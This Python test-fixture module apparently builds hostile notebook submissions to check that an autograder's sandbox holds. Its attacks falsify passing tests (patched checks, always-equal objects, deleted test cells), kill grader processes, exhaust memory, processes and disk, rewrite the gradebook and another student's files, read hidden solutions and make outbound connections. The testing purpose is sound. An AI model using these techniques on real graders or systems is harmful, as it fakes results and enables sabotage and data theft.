@@ -1,0 +1,984 @@
+"""Hostile submissions (GitHub issue 5): what a cheating or malicious student can hand in.
+
+Each case takes the released student notebook (``notebooks/<lecture>.ipynb``, every answer
+cell still raising ``NotImplementedError``) and returns it with one attack in it: the code a
+student would really type into an answer cell or an added cell, or an edit of the
+notebook's metadata. tests/test_hostile.py grades all of them in one run, next to an honest
+student who handed in the unchanged release (``cleo``) and a perfect one (``ada``), and
+checks that no attack earns a point, hurts anyone else, leaks what is hidden or leaves a
+trace on the machine.
+
+A case declares its ``name`` (the student id, e.g. ``h01-edited-test``), its lecture and the
+grade_ids of the test cells it attacks; its docstring says what it attacks and what a naive
+nbgrader setup (``nbgrader autograde`` in a kernel with the grader's rights) would do.
+
+What the attacks know is in ``Paths``: the repository, ``solutions/``, the course workspace
+and its gradebook, the submissions folder, another student's folder, a marker folder, the
+run's random token and a loopback port the test listens on. Everything an attack creates
+carries ``p.tag`` (``hostile-<token>-<case>``) in its name or command line, so the test
+finds and removes what got through, and never confuses it with anything else on this
+(shared) machine. Destructive attacks are bounded so that even an unsandboxed run cannot
+take the machine down: at most 2000 forked ``sleep 30``, 6 GB of memory (after a 50 GB
+request that no machine here grants), 4 GB per file and a few seconds of writing or printing.
+
+Attacks report what the test cannot see from outside (a connection to the internet, memory
+held, processes forked, a secret read) with lines ``ESCAPED: ...`` in their own output; a
+line like that in a graded notebook means the grader let something through. Files written
+do not report themselves: in a sandbox, a path outside the bound folders may exist as the
+sandbox's own scratch space, so the test looks for them on the machine instead.
+
+Answers that must return something (to get past a shape check before the attack can work)
+return zeros of the right shape computed with one Python step per position: such an answer
+earns nothing on its own, not even the vectorization tests, so any point it gets is the
+attack's.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from pathlib import Path
+
+from nbformat import NotebookNode
+
+from autograder.cells import is_test_cell, nbgrader_meta
+
+
+@dataclass(frozen=True)
+class Paths:
+    """Absolute paths (and facts) an attacker is assumed to know."""
+
+    root: Path            # the repository (autograder.course.ROOT)
+    solutions: Path       # the instructor's masters
+    lib: Path             # the seqconv package the kernels import (installed in editable mode)
+    site_packages: Path   # the virtualenv's site-packages
+    course: Path          # the course workspace of the grading run
+    gradebook: Path       # its gradebook.db
+    submissions: Path     # the folder being graded
+    victim: Path          # another student's folder in it
+    markers: Path         # a folder under pytest's tmp dir: nothing graded may write there
+    token: str            # random, per run
+    port: int             # a loopback port the test listens on
+    case: str = ""        # the case being built (set by build_case)
+
+    @property
+    def tag(self) -> str:
+        """In the name or command line of everything the attack creates."""
+        return f"hostile-{self.token}-{self.case}"
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    lecture: str
+    attacks: tuple[str, ...]
+    build: Callable[[NotebookNode, Paths], NotebookNode]
+    metadata_only: bool = False
+    # the same answers without the attack, when they can earn points honestly (else: the unchanged release)
+    honest: Callable[[NotebookNode, Paths], NotebookNode] | None = None
+
+    @property
+    def doc(self) -> str:
+        return (self.build.__doc__ or "").strip()
+
+
+CASES: list[Case] = []
+
+PADDING = "06-padding"
+CONV = "01-conv1d"
+TEXT = "07-text"
+EX1_06 = ("ex1-tests-values", "ex1-tests-edge-cases", "ex1-tests-vectorized")
+EX2_06 = ("ex2-tests-values", "ex2-tests-edge-cases", "ex2-tests-vectorized")
+ALL_06 = EX1_06 + EX2_06
+
+
+def case(name: str, lecture: str, attacks: tuple[str, ...], **options) -> Callable:
+    def register(build: Callable[[NotebookNode, Paths], NotebookNode]) -> Callable:
+        CASES.append(Case(name, lecture, tuple(attacks), build, **options))
+        return build
+    return register
+
+
+def build_case(c: Case, release: NotebookNode, paths: Paths, *, honest: bool = False) -> NotebookNode:
+    """The case's notebook (or its honest baseline), built from a copy of the release."""
+    builder = c.honest if honest else c.build
+    return builder(copy.deepcopy(release), replace(paths, case=c.name))
+
+
+# -- notebook editing --------------------------------------------------------------
+
+def cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
+    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)
+
+
+def set_answer(nb: NotebookNode, grade_id: str, code: str) -> NotebookNode:
+    cell(nb, grade_id).source = code.strip("\n")
+    return nb
+
+
+def header(p: Paths, **names: object) -> str:
+    """Constants at the top of an attack: what the attacker knows, as Python literals."""
+    return "".join(f"{key} = {(str(value) if isinstance(value, Path) else value)!r}\n" for key, value in names.items())
+
+
+def junk(name: str) -> str:
+    """A pooling 'answer' for lecture 06 that earns nothing by itself (see the module docstring)."""
+    return f'''
+def {name}(H, mask):
+    B, T, C = np.shape(H)
+    for _ in range(B * T):   # one Python step per position: not vectorized either
+        pass
+    return np.zeros((B, C))
+'''
+
+
+def with_junk(nb: NotebookNode, before_ex1: str = "", before_ex2: str = "") -> NotebookNode:
+    set_answer(nb, "ex1-answer", before_ex1 + junk("masked_mean_pool"))
+    return set_answer(nb, "ex2-answer", before_ex2 + junk("masked_max_pool"))
+
+
+# -- the notebook's own cells --------------------------------------------------------
+
+@case("h01-edited-test", PADDING, ("ex1-tests-values", "ex1-tests-edge-cases", "ex2-tests-values"))
+def edited_test(nb, p):
+    """Test cells replaced by ``pass``. Naive nbgrader: it restores test cells from the
+    gradebook (checksums), so this is the baseline of tampering; a grader that ran the
+    submitted cells as they are would give full marks."""
+    for grade_id in ("ex1-tests-values", "ex1-tests-edge-cases", "ex2-tests-values"):
+        cell(nb, grade_id).source = "# the test is fine, trust me\npass"
+    return nb
+
+
+@case("h02-changed-points", PADDING, ("ex1-tests-values", "ex1-tests-edge-cases"), metadata_only=True)
+def changed_points(nb, p):
+    """Test cells' points raised (2 -> 200, 1 -> 100) in their nbgrader metadata. Naive
+    nbgrader takes points from the gradebook, not from the submission; a grader that read
+    the submitted metadata would let a student rescale the lecture."""
+    cell(nb, "ex1-tests-values").metadata.nbgrader.points = 200
+    cell(nb, "ex1-tests-edge-cases").metadata.nbgrader.points = 100
+    return nb
+
+
+@case("h03-changed-grade-id", PADDING, ("ex1-tests-values",))
+def changed_grade_id(nb, p):
+    """A test cell renamed (new grade_id) and emptied: the student's own test that always
+    passes, while the real one is 'missing'. Naive nbgrader without add_missing_cells would
+    lose the real test (its grade stays empty) and may fail on the unknown grade_id."""
+    test = cell(nb, "ex1-tests-values")
+    test.metadata.nbgrader.grade_id = "ex1-tests-values-fixed"
+    test.source = "# Tests: masked_mean_pool (fixed)\npass"
+    return nb
+
+
+@case("h04-deleted-tests", PADDING, ALL_06)
+def deleted_tests(nb, p):
+    """Every test cell deleted. Naive nbgrader (add_missing_cells off, its default) grades
+    the cells it finds: the deleted tests get no grade at all and the notebook's maximum shrinks."""
+    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
+    return nb
+
+
+@case("h05-duplicated-tests", PADDING, EX1_06)
+def duplicated_tests(nb, p):
+    """Each test of exercise 1 duplicated, with copies that just ``pass`` before and after
+    the original. Naive nbgrader 0.9 fails with a KeyError on a duplicated grade_id (or, once
+    deduplicated, may keep the first copy, the one that passes)."""
+    for grade_id in EX1_06:
+        original = cell(nb, grade_id)
+        position = nb.cells.index(original)
+        for offset, suffix in ((position + 1, "after"), (position, "before")):
+            fake = copy.deepcopy(original)
+            fake.source = "# Tests: (copy)\npass"
+            fake["id"] = f"{grade_id}-{suffix}"
+            nb.cells.insert(offset, fake)
+    return nb
+
+
+# -- patching what the tests use -------------------------------------------------------
+
+@case("h06-numpy-patched", PADDING, ALL_06)
+def numpy_patched(nb, p):
+    """NumPy's comparisons replaced in the kernel (isclose, allclose, array_equal,
+    testing.assert_*) so that everything is close to everything. Naive nbgrader runs the test
+    cells in the student's kernel: every check_close passes."""
+    patch = '''
+import numpy as np
+import numpy.testing
+
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+np.allclose = lambda *args, **kwargs: True
+np.array_equal = lambda *args, **kwargs: True
+np.array_equiv = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.testing.assert_array_equal = lambda *args, **kwargs: None
+np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
+'''
+    return with_junk(nb, patch)
+
+
+@case("h07-builtins-import", PADDING, ALL_06)
+def builtins_import(nb, p):
+    """``builtins.__import__`` replaced so that every ``from seqconv.checks import ...``
+    (the first line of each test cell) hands out checks that pass. Naive nbgrader: full marks."""
+    patch = '''
+import builtins
+import types
+
+_real_import = builtins.__import__
+
+def _import(name, globals=None, locals=None, fromlist=(), level=0):
+    module = _real_import(name, globals, locals, fromlist, level)
+    if name == "seqconv.checks" and fromlist:
+        return types.SimpleNamespace(**{n: (lambda *args, **kwargs: None) for n in fromlist})
+    return module
+
+builtins.__import__ = _import
+'''
+    return with_junk(nb, patch)
+
+
+@case("h08-builtins-isinstance", PADDING, ALL_06)
+def builtins_isinstance(nb, p):
+    """``builtins.isinstance`` replaced (``__builtins__`` is the same module in a notebook)
+    so that a duck-typed object passes for an ndarray, and that object claims every shape and
+    answers every np.isclose with True. Naive nbgrader: check_type, check_shape and
+    check_close all pass."""
+    code = '''
+import builtins
+
+class AnyShape(tuple):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+class Whatever:
+    """Every shape, a float dtype, and close to anything NumPy compares it with."""
+    shape = AnyShape()
+    dtype = np.dtype(float)
+    ndim = 2
+
+    def __array_function__(self, func, types, args, kwargs):
+        return np.ones(np.shape(args[1]) if len(args) > 1 else (), dtype=bool)
+
+_real_isinstance = builtins.isinstance
+
+def _isinstance(obj, classinfo):
+    return True if type(obj) is Whatever else _real_isinstance(obj, classinfo)
+
+builtins.isinstance = _isinstance
+__builtins__.isinstance = _isinstance   # the same module here; a dict in some other runners
+
+def masked_mean_pool(H, mask):
+    for _ in range(np.size(mask)):
+        pass
+    return Whatever()
+'''
+    set_answer(nb, "ex1-answer", code)
+    return set_answer(nb, "ex2-answer", "def masked_max_pool(H, mask):\n    return masked_mean_pool(H, mask)\n")
+
+
+@case("h09-always-equal", PADDING, ALL_06)
+def always_equal(nb, p):
+    """Answers return an ndarray subclass whose ``__eq__`` is always true, whose ``shape``
+    matches any shape and whose ``__array_function__`` says it is close to anything. Naive
+    nbgrader: the checks (in the same process) believe it: full marks."""
+    code = '''
+class AnyShape(tuple):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+class Agreeable(np.ndarray):
+    """An array that agrees with whatever it is compared to."""
+    shape = property(lambda self: AnyShape())
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __array_function__(self, func, types, args, kwargs):
+        if func in (np.isclose, np.equal, np.less_equal):
+            return np.ones(np.shape(np.asarray(args[1])), dtype=bool)
+        if func in (np.allclose, np.array_equal, np.array_equiv, np.all):
+            return True
+        return super().__array_function__(func, types, args, kwargs)
+
+def masked_mean_pool(H, mask):
+    for _ in range(np.size(mask)):
+        pass
+    return np.zeros(1).view(Agreeable)
+
+def masked_max_pool(H, mask):
+    return masked_mean_pool(H, mask)
+'''
+    set_answer(nb, "ex1-answer", code)
+    return set_answer(nb, "ex2-answer", "# masked_max_pool is defined above")
+
+
+@case("h10-reads-the-test", PADDING, ALL_06)
+def reads_the_test(nb, p):
+    """The answer reads the test that calls it: it finds the calling ``check_close(...)``
+    in the caller's source (IPython keeps every cell in linecache, hidden tests included),
+    evaluates the expected value there and returns it. Naive nbgrader: every value test
+    passes, visible and hidden."""
+    code = '''
+import ast
+import linecache
+import sys
+
+def _what_the_test_expects(fallback_shape):
+    """The expected value of the check that is calling us, evaluated in the caller's frame."""
+    frame = sys._getframe(2)
+    while frame is not None:
+        name = frame.f_code.co_filename
+        if "/ipykernel_" not in name and not name.startswith("<ipython-input"):
+            frame = frame.f_back   # not a notebook cell
+            continue
+        source = "".join(linecache.getlines(frame.f_code.co_filename))
+        try:
+            tree = ast.parse(source)
+        except SyntaxError:
+            tree = None
+        for node in ast.walk(tree) if tree else ():
+            if (isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("check_close", "check_shape")
+                    and len(node.args) >= 2 and node.lineno <= frame.f_lineno <= node.end_lineno):
+                value = eval(compile(ast.Expression(node.args[1]), "<test>", "eval"), frame.f_globals, frame.f_locals)
+                return np.zeros(value) if node.func.id == "check_shape" else np.asarray(value)
+        frame = frame.f_back
+    return np.zeros(fallback_shape)
+
+def masked_mean_pool(H, mask):
+    for _ in range(np.size(mask)):
+        pass
+    return _what_the_test_expects((np.shape(H)[0], np.shape(H)[2]))
+
+def masked_max_pool(H, mask):
+    for _ in range(np.size(mask)):
+        pass
+    return _what_the_test_expects((np.shape(H)[0], np.shape(H)[2]))
+'''
+    set_answer(nb, "ex1-answer", code)
+    return set_answer(nb, "ex2-answer", "# masked_max_pool is defined above")
+
+
+@case("h11-lying-equality", TEXT, ("ex1-tests-word", "ex1-tests-char", "ex2-tests"))
+def lying_equality(nb, p):
+    """Answers that return objects equal to everything: a ``Yes`` whose ``__eq__``/``__ne__``
+    always agree (check_equal compares with ``!=``), and an int subclass whose differences
+    are such a ``Yes``. Naive nbgrader: check_equal and check_type pass."""
+    code = '''
+class Yes:
+    """Equal to anything."""
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = object.__hash__
+
+    def __repr__(self):
+        return "(11, 9)"
+
+class Count(int):
+    """An int whose differences agree with anything."""
+    def __sub__(self, other):
+        return Yes()
+
+    __rsub__ = __sub__
+
+def token_stats(texts, tokenizer):
+    return Yes()
+'''
+    set_answer(nb, "ex1-answer", code)
+    return set_answer(nb, "ex2-answer", '''
+def textcnn_n_params(vocab_size, emb_dim, kernel_size, channels, n_classes):
+    return Count(0)
+''')
+
+
+# -- hiding failures -----------------------------------------------------------------
+
+@case("h12-no-traceback", PADDING, ALL_06)
+def no_traceback(nb, p):
+    """Tracebacks switched off: ``sys.excepthook`` and IPython's ``showtraceback`` replaced by
+    no-ops, so a failing test cell produces no error output. Naive nbgrader decides pass or
+    fail from the error outputs: every test 'passes' although the answers still raise."""
+    hook = '''
+import sys
+from IPython import get_ipython
+
+sys.excepthook = lambda *args: None
+get_ipython().showtraceback = lambda *args, **kwargs: None
+'''
+    answer = cell(nb, "ex1-answer")
+    answer.source = hook + "\n" + answer.source
+    return nb
+
+
+@case("h13-custom-exc", PADDING, ALL_06)
+def custom_exc(nb, p):
+    """Every exception swallowed by IPython's custom exception handler
+    (``set_custom_exc((BaseException,), ...)``, and its error message skipped). Naive
+    nbgrader: no test cell shows an error, so all pass."""
+    hook = '''
+from IPython import get_ipython
+
+shell = get_ipython()
+shell.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+shell.CustomTB = lambda *args, **kwargs: None   # set_custom_exc would still send an empty error
+'''
+    answer = cell(nb, "ex1-answer")
+    answer.source = hook + "\n" + answer.source
+    return nb
+
+
+@case("h14-input-transformer", PADDING, ALL_06)
+def input_transformer(nb, p):
+    """An IPython input transformer that rewrites every later cell to ``pass``: the test
+    cells never run. Naive nbgrader: no error output anywhere, full marks."""
+    hook = '''
+from IPython import get_ipython
+
+get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
+'''
+    answer = cell(nb, "ex1-answer")
+    answer.source = answer.source + "\n\n" + hook
+    return nb
+
+
+@case("h15-checks-patched", PADDING, ALL_06)
+def checks_patched(nb, p):
+    """``seqconv.checks`` patched in the kernel: every check a no-op, and the line counter
+    behind check_vectorized returning 1. Naive nbgrader (test cells import the checks from
+    the patched module): full marks, loops included."""
+    patch = '''
+import seqconv.checks
+
+def _passes(*args, **kwargs):
+    return None
+
+for _name in ("check_close", "check_shape", "check_equal", "check_type", "check_vectorized"):
+    setattr(seqconv.checks, _name, _passes)
+seqconv.checks.count_python_lines = lambda fn, *args: 1
+'''
+    return with_junk(nb, patch)
+
+
+def _library_answers(nb: NotebookNode, patch: str) -> NotebookNode:
+    set_answer(nb, "ex1-answer", patch + '''
+def conv1d_vectorized(X, K):
+    return seqconv.conv1d(X, K)
+''')
+    return set_answer(nb, "ex2-answer", '''
+def conv1d_same(X, K):
+    return seqconv.conv1d(X, K, padding="same")
+''')
+
+
+def _library_honest(nb, p):
+    """The same answers, calling the library, without the patch: the tests that switch the
+    library off must fail them."""
+    return _library_answers(nb, "import seqconv\n")
+
+
+@case("h16-switch-offs-patched", CONV, ("ex1-tests-values", "ex2-tests-odd", "ex2-tests-even"), honest=_library_honest)
+def switch_offs_patched(nb, p):
+    """The exercises ask for an own implementation, and the tests switch the library off
+    (``seqconv.checks.disabled``, ``padding_refused``) while they call it. This answer calls
+    ``seqconv.conv1d`` and first replaces those switches (and ``enter_remote``, which applies
+    them in the kernel) by no-ops. Naive nbgrader: the hidden 'library switched off' tests
+    pass. Compared with the same answers without the patch."""
+    return _library_answers(nb, '''
+import contextlib
+import seqconv
+import seqconv.checks
+
+seqconv.checks.disabled = lambda *args, **kwargs: contextlib.nullcontext()
+seqconv.checks.padding_refused = lambda *args, **kwargs: contextlib.nullcontext()
+seqconv.checks.enter_remote = lambda *args, **kwargs: contextlib.nullcontext()
+''')
+
+
+# -- stopping the kernel or the grader ------------------------------------------------------
+
+@case("h17-os-exit", PADDING, ALL_06)
+def os_exit(nb, p):
+    """``os._exit(0)`` when tested: the kernel ends 'successfully' in the middle of a test.
+    Naive nbgrader: the kernel dies, nbclient raises DeadKernelError and the notebook is not
+    graded at all (or graded from what ran)."""
+    return _replace_bodies(nb, "os._exit(0)")
+
+
+def _replace_bodies(nb: NotebookNode, statement: str) -> NotebookNode:
+    for grade_id, name in (("ex1-answer", "masked_mean_pool"), ("ex2-answer", "masked_max_pool")):
+        set_answer(nb, grade_id, f"import os\nimport signal\nimport sys\n\ndef {name}(H, mask):\n    {statement}\n")
+    return nb
+
+
+@case("h18-sys-exit", PADDING, ALL_06)
+def sys_exit(nb, p):
+    """``sys.exit(0)`` when tested, and ``raise SystemExit`` in the answer cell itself.
+    Naive nbgrader: IPython turns SystemExit into an error output, so this scores 0; a grader
+    that treated SystemExit(0) as success would not."""
+    _replace_bodies(nb, "sys.exit(0)")
+    answer = cell(nb, "ex2-answer")
+    answer.source += "\n\nraise SystemExit(0)"
+    return nb
+
+
+@case("h19-kill-kernel", PADDING, ALL_06)
+def kill_kernel(nb, p):
+    """The kernel kills itself with SIGKILL when tested. Naive nbgrader: DeadKernelError;
+    the notebook fails to grade."""
+    return _replace_bodies(nb, "os.kill(os.getpid(), signal.SIGKILL)")
+
+
+@case("h20-kill-parent", PADDING, ALL_06)
+def kill_parent(nb, p):
+    """The answer cell kills the kernel's parent process with SIGKILL. Naive nbgrader (or this
+    grader unsandboxed): the parent is the grading worker, so the worker pool breaks and
+    other students' notebooks get no grade."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n\n" + answer.source
+    return nb
+
+
+@case("h21-kill-grader", PADDING, ALL_06)
+def kill_grader(nb, p):
+    """The answer cell walks up its ancestors (``/proc/<pid>/stat``) and SIGKILLs the grader
+    (``python -m autograder grade ...``). Naive nbgrader: the whole grading run dies. (The
+    match also requires this run's token, so this test never kills anything else.)"""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, TOKEN=p.token) + '''
+import os
+import signal
+
+pid = os.getppid()
+while pid > 1:
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            cmdline = f.read().replace(b"\\0", b" ").decode(errors="replace")
+        with open(f"/proc/{pid}/stat") as f:
+            parent = int(f.read().rsplit(")", 1)[1].split()[1])
+    except OSError:
+        break
+    if "autograder" in cmdline and TOKEN in cmdline:
+        print(f"ESCAPED: killing the grader, pid {pid}")
+        os.kill(pid, signal.SIGKILL)
+    pid = parent
+
+''' + answer.source
+    return nb
+
+
+# -- exhausting resources -------------------------------------------------------------------
+
+@case("h22-fork-bomb", PADDING, ALL_06)
+def fork_bomb(nb, p):
+    """A fork bomb, bounded for this test: up to 2000 children that each become ``sleep 30``
+    (a real one is ``while True: os.fork()``). Naive nbgrader: no process limit, the
+    children outlive the kernel and fill the machine's process table."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, TAG=p.tag) + '''
+import os
+import shutil
+
+SLEEP = shutil.which("sleep")
+children = 0
+try:
+    for _ in range(2000):
+        if os.fork() == 0:
+            try:
+                os.execv(SLEEP, [TAG, "30"])
+            finally:
+                os._exit(1)
+        children += 1
+except OSError as exc:
+    print(f"fork failed after {children} children: {exc}")
+if children == 2000:
+    print(f"ESCAPED: {children} processes forked")
+
+''' + answer.source
+    return nb
+
+
+@case("h23-memory-bomb", PADDING, ALL_06)
+def memory_bomb(nb, p):
+    """A memory bomb: 50 GB at once, then 512 MB blocks written to (up to 6 GB). Naive
+    nbgrader: no memory limit, the kernel (or the OOM killer's choice) takes the machine's
+    memory from every other process."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = '''
+import numpy as np
+
+hoard = []
+try:
+    hoard.append(np.ones(50 * 2**30 // 8))          # 50 GB
+except MemoryError:
+    for _ in range(12):
+        hoard.append(np.ones(2**26))                  # 512 MB each, really used
+print(f"ESCAPED: holding {sum(a.nbytes for a in hoard) / 2**30:.1f} GB")
+
+''' + answer.source
+    return nb
+
+
+@case("h24-infinite-loop", PADDING, ALL_06)
+def infinite_loop(nb, p):
+    """An infinite loop that ignores the interrupt (SIGINT set to SIG_IGN). Naive nbgrader:
+    the cell timeout's interrupt does nothing; without a second stage the grading hangs."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = '''
+import signal
+
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+'''
+    return nb
+
+
+# -- writing where it must not --------------------------------------------------------------
+
+@case("h25-gradebook-update", PADDING, ALL_06)
+def gradebook_update(nb, p):
+    """The gradebook opened with sqlite3: every grade set to full marks (manual_score wins over
+    auto_score in nbgrader) and a trigger that does the same to every grade inserted later,
+    this student's included. Naive nbgrader: the kernel can write the gradebook: full marks
+    for everyone."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, GRADEBOOK=str(p.gradebook), TRIGGER=p.tag.replace("-", "_")) + '''
+import sqlite3
+
+FULL_MARKS = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"
+try:
+    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True, timeout=10)
+    with db:
+        db.execute(f"UPDATE grade SET manual_score = {FULL_MARKS.format('grade')}")
+        db.execute(f"""CREATE TRIGGER IF NOT EXISTS "{TRIGGER}" AFTER INSERT ON grade BEGIN
+                       UPDATE grade SET manual_score = {FULL_MARKS.format('NEW')} WHERE id = NEW.id; END""")
+    db.close()
+    print("ESCAPED: gradebook updated")
+except Exception as exc:
+    print(f"gradebook: {type(exc).__name__}: {exc}")
+
+''' + answer.source
+    return nb
+
+
+@case("h26-gradebook-garbage", PADDING, ALL_06)
+def gradebook_garbage(nb, p):
+    """Garbage written over the gradebook file's first bytes (SQLite's header). Naive
+    nbgrader: the gradebook is destroyed, for this run and every later one."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, GRADEBOOK=str(p.gradebook)) + '''
+try:
+    with open(GRADEBOOK, "r+b") as f:
+        f.write(b"all your grades are belong to us " * 64)
+    print("ESCAPED: gradebook overwritten")
+except OSError as exc:
+    print(f"gradebook: {exc}")
+
+''' + answer.source
+    return nb
+
+
+@case("h27-other-student", PADDING, ALL_06)
+def other_student(nb, p):
+    """Another student's submission overwritten (their notebooks replaced by '{}'), a file
+    dropped in their folder and in the submissions folder. Naive nbgrader: the kernel
+    can write the exchange/submitted folders: sabotage for this run or the next."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, VICTIM=str(p.victim), SUBMISSIONS=str(p.submissions), TAG=p.tag) + '''
+from pathlib import Path
+
+for target in [*Path(VICTIM).glob("*.ipynb"), Path(VICTIM) / f"{TAG}.txt", Path(SUBMISSIONS) / f"{TAG}.txt"]:
+    try:
+        target.write_text("{}")
+        print(f"wrote {target}")
+    except OSError as exc:
+        print(f"{target}: {exc}")
+
+''' + answer.source
+    return nb
+
+
+@case("h28-write-repo", PADDING, ALL_06)
+def write_repo(nb, p):
+    """Files created in the repository (its root, solutions/, the seqconv package every later
+    kernel imports), a .pth in the virtualenv (run by every later Python) and a marker
+    folder outside the kernel's working directory. Harmless content and tagged names here;
+    a real attacker would edit checks.py or the masters. Naive nbgrader: all of it works."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, ROOT=str(p.root), SOLUTIONS=str(p.solutions), LIB=str(p.lib),
+                           SITE_PACKAGES=str(p.site_packages), MARKERS=str(p.markers), TAG=p.tag) + '''
+from pathlib import Path
+
+targets = [Path(ROOT) / f".{TAG}", Path(SOLUTIONS) / f".{TAG}", Path(LIB) / f"{TAG.replace('-', '_')}.py",
+           Path(SITE_PACKAGES) / f"{TAG}.pth", Path(MARKERS) / TAG]
+for target in targets:
+    try:
+        target.write_text("# written by a graded notebook\\n")
+        print(f"wrote {target}")
+    except OSError as exc:
+        print(f"{target}: {exc}")
+
+''' + answer.source
+    return nb
+
+
+# -- reading what it must not -----------------------------------------------------------
+
+_PRINT_SECRETS = '''
+import json
+from pathlib import Path
+
+from IPython.display import display
+
+def show_secrets(path):
+    """Print the solutions and hidden tests of a master notebook, one output per cell."""
+    try:
+        cells = json.loads(Path(path).read_text())["cells"]
+    except (OSError, ValueError) as exc:
+        print(f"{path}: {exc}")
+        return
+    print(f"ESCAPED: read {path}")
+    for c in cells:
+        text = "".join(c["source"])
+        if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or c.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            display({"text/plain": text}, raw=True)
+'''
+
+
+@case("h29-read-solutions", PADDING, ALL_06)
+def read_solutions(nb, p):
+    """solutions/*.ipynb read and their solution and hidden test cells printed (this lecture
+    first). Naive nbgrader: the kernel has the instructor's rights: the feedback shows the
+    answers and hidden tests, for this student and anyone they share it with."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, SOLUTIONS=str(p.solutions), LECTURE=PADDING) + _PRINT_SECRETS + '''
+masters = sorted(Path(SOLUTIONS).glob("*.ipynb"), key=lambda path: path.stem != LECTURE)
+if not masters:
+    print(f"{SOLUTIONS}: nothing there")
+for master in masters:
+    show_secrets(master)
+
+''' + answer.source
+    return nb
+
+
+@case("h30-read-course", PADDING, ALL_06)
+def read_course(nb, p):
+    """The course workspace read: the master copies in source/ printed like h29, and the
+    gradebook opened read-only and dumped (grades of other students, stored test sources).
+    Naive nbgrader: all readable."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, COURSE=str(p.course), GRADEBOOK=str(p.gradebook), LECTURE=PADDING) + _PRINT_SECRETS + '''
+import sqlite3
+
+masters = sorted(Path(COURSE, "source").glob("*/*.ipynb"), key=lambda path: path.stem != LECTURE)
+if not masters:
+    print(f"{COURSE}/source: nothing there")
+for master in masters:
+    show_secrets(master)
+try:
+    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
+    rows = db.execute("SELECT * FROM grade").fetchall() + db.execute("SELECT name, source FROM source_cell").fetchall()
+    print(f"ESCAPED: read {len(rows)} rows of the gradebook")
+    for row in rows:
+        display({"text/plain": repr(row)}, raw=True)
+except sqlite3.Error as exc:
+    print(f"gradebook: {exc}")
+
+''' + answer.source
+    return nb
+
+
+@case("h31-network", PADDING, ALL_06)
+def network(nb, p):
+    """Network connections: to 1.1.1.1:53 (the internet) and to a loopback port the test
+    listens on (services of the grading machine), sending this run's tag. Naive nbgrader:
+    both work: answers can be fetched and data sent out."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, PORT=p.port, TAG=p.tag) + '''
+import socket
+
+for host, port in (("1.1.1.1", 53), ("127.0.0.1", PORT)):
+    try:
+        with socket.create_connection((host, port), timeout=3) as s:
+            s.sendall(f"{TAG} was here\\n".encode())
+        print(f"ESCAPED: connected to {host}:{port}")
+    except OSError as exc:
+        print(f"{host}:{port}: {exc}")
+
+''' + answer.source
+    return nb
+
+
+@case("h32-output-flood", PADDING, ALL_06)
+def output_flood(nb, p):
+    """About 2 GB printed by an answer cell (1 MB lines), for at most 8 s. Naive nbgrader:
+    the output lands in the notebook and in memory: the autograded notebook and the feedback
+    become gigabytes, or the grader runs out of memory."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = '''
+import sys
+import time
+
+line = "spam " * 200_000 + "\\n"
+start = time.monotonic()
+for _ in range(2000):
+    sys.stdout.write(line)
+    if time.monotonic() - start > 8:
+        break
+
+''' + answer.source
+    return nb
+
+
+@case("h33-huge-files", PADDING, ALL_06)
+def huge_files(nb, p):
+    """Disk filled: up to 1.5 GB each in the working directory, in /tmp and in a folder of its
+    own (``/var/tmp/<tag>``), as 128 MB files (under any per-file limit), 3 s of writing per
+    place. Naive nbgrader: no quota: the grading machine's disk (or, in a sandbox whose root
+    is a tmpfs, its memory) fills up, and what is outside the working directory stays."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, TAG=p.tag) + '''
+import os
+import time
+
+chunk = b"\\0" * 2**20
+for folder in (".", "/tmp", f"/var/tmp/{TAG}"):
+    written, start = 0, time.monotonic()
+    try:
+        os.makedirs(folder, exist_ok=True)
+        while written < 1536 and time.monotonic() - start < 3:
+            with open(os.path.join(folder, f"{TAG}-{written // 128}.bin"), "wb") as f:
+                for _ in range(128):
+                    f.write(chunk)
+                    written += 1
+    except OSError as exc:
+        print(f"{folder}: {exc}")
+    print(f"{folder}: {written} MB")
+    if written > 1024:
+        print(f"ESCAPED: {written} MB written to {folder}")
+
+''' + answer.source
+    return nb
+
+
